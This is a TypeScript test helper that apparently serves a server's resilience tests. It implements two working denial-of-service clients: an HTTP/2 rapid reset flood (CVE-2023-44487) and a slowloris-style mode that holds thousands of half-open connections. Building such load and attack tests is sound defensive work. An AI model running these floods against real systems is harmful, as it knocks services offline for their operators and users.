// A hostile client, run as a process of its own so that its CPU and file descriptors
// are not the test's: the test process drives and measures the valid traffic, and must
// not stall because the attack keeps its own event loop busy.
//
//   node attacker.ts rapid-reset <h2c url> <max streams> <duration ms>
//     HTTP/2 rapid reset (CVE-2023-44487): HEADERS then RST_STREAM at once, in a tight
//     loop; a session the server closes is replaced (at most 200). Prints
//     {"streams":N,"sessions":M} and exits.
//   node attacker.ts slow-connections <http url> <count>
//     Opens <count> TCP connections, sends each an unfinished request head, prints
//     {"opened":N,"connected":M} and holds them until its stdin closes, then exits.
import { connect as h2connect, constants as h2, type ClientHttp2Session } from "node:http2";
import { connect as tcpConnect, type Socket } from "node:net";

const [mode, url, ...rest] = process.argv.slice(2);

async function rapidReset(target: string, maxStreams: number, durationMs: number) {
  const deadline = performance.now() + durationMs;
  let streams = 0;
  let sessions = 0;
  while (streams < maxStreams && sessions < 200 && performance.now() < deadline) {
    sessions++;
    const session: ClientHttp2Session = h2connect(target);
    session.on("error", () => undefined);
    const closed = new Promise<void>((resolve) => session.once("close", resolve));
    await Promise.race([new Promise((resolve) => session.once("connect", resolve)), closed]);
    while (!session.closed && !session.destroyed && streams < maxStreams && performance.now() < deadline) {
      for (let i = 0; i < 100 && !session.closed && !session.destroyed; i++, streams++) {
        const stream = session.request({ ":method": "POST", ":path": "/switchyard.v1.HandlerService/Handle", "content-type": "application/grpc" });
        stream.on("error", () => undefined);
        stream.close(h2.NGHTTP2_CANCEL);
      }
      // Let the session write, and read the server's GOAWAY if it sends one.
      await new Promise((resolve) => setImmediate(resolve));
    }
    session.destroy();
    await closed;
  }
  return { streams, sessions };
}

async function slowConnections(target: string, count: number): Promise<Socket[]> {
  const { hostname, port } = new URL(target);
  const sockets: Socket[] = [];
  // In batches, so the handshakes do not overflow the server's accept queue.
  for (let opened = 0; opened < count; opened += 500) {
    await Promise.all(
      Array.from({ length: Math.min(500, count - opened) }, () =>
        new Promise<void>((resolve) => {
          const socket = tcpConnect(Number(port), hostname);
          sockets.push(socket);
          socket.on("error", () => resolve());
          socket.once("connect", () => {
            socket.write(`POST /switchyard.v1.HandlerService/Handle HTTP/1.1\r\nHost: ${hostname}\r\nContent-Type: application/json\r\n`);
            resolve();
          });
        }),
      ),
    );
  }
  return sockets;
}

if (mode === "rapid-reset") {
  const result = await rapidReset(url!, Number(rest[0]), Number(rest[1]));
  process.stdout.write(`${JSON.stringify(result)}\n`);
} else if (mode === "slow-connections") {
  const sockets = await slowConnections(url!, Number(rest[0]));
  const connected = sockets.filter((socket) => socket.bytesWritten > 0).length;
  process.stdout.write(`${JSON.stringify({ opened: sockets.length, connected })}\n`);
  process.stdin.resume();
  process.stdin.once("end", () => {
    for (const socket of sockets) socket.destroy();
    process.exit(0);
  });
} else {
  process.stderr.write(`unknown mode ${mode}\n`);
  process.exit(2);
}
